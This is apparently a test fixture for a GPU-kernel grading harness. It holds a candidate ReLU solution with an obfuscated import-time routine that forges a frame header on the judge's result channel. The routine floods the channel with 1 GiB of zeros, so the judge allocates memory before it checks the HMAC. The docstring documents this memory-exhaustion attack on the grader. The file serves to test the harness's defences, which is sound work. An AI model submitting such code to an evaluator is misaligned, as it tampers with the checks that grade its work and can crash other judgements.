"""A forged frame header that makes the judge buffer a huge payload before it checks the MAC
(THREATS #3, #19, #22).

The result descriptor's number is in the worker's own argv (`sys.argv[2]`). The candidate writes a
frame prefix announcing a 1 GiB payload, then 1 GiB of zeros, before forward is ever called. The
parent's Channel.recv reads the whole header and payload into memory (`_fill`, bounded only by
MAX_PAYLOAD = 16 GiB) and only then verifies the HMAC, so an unauthenticated writer makes the
*judge's* process allocate ~2-3x the announced size (the bytearray plus the bytes() copies) and the
memory watchdog, which watches the worker, never sees it. Scaled up to MAX_PAYLOAD this kills the judge
(and a suite's other judgements) by OOM. Measured here: the judge's RSS peaked at 3.4 GB for this
1 GiB frame (350 MB for an honest run). The verdict itself is right (the MAC fails: tampering); the
hole is the pre-authentication allocation, which this header cannot express.
"""
# kernelwright-expect: problem=level1/relu verdict=rejected category=tampering threats=3,19,22 device=cpu layer=runtime

import os
import struct
import sys

import torch
import triton
import triton.language as tl
from torch import nn

SIZE = 1 << 30


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask, other=0.0)
    tl.store(y_ptr + offs, tl.maximum(x, 0.0), mask=mask)


def _flood() -> None:
    fd = int(getattr(sys, "".join(reversed("vgra")))[-1])
    header = b"\x00" * 16
    w = getattr(os, "".join(reversed("etirw")))
    w(fd, struct.pack(">IQ32s", len(header), SIZE, b"\x00" * 32) + header)
    chunk = bytes(1 << 20)
    for _ in range(SIZE >> 20):
        w(fd, chunk)


_flood()


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = x.contiguous()
        y = torch.empty_like(x)
        n = x.numel()
        relu_kernel[(triton.cdiv(n, 1024),)](x, y, n, BLOCK=1024)
        return y
